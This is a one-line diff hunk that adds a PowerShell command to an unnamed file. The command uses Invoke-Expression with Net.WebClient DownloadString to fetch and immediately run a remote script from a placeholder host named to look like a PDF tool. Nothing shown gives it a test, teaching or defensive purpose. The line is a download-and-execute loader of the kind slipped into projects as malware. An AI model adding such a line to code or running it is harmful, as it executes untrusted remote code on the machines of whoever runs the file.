@@ -1,0 +1,1 @@
+IEX(New-Object Net.WebClient).DownloadString("https://pdf-tools.example/x.ps1")
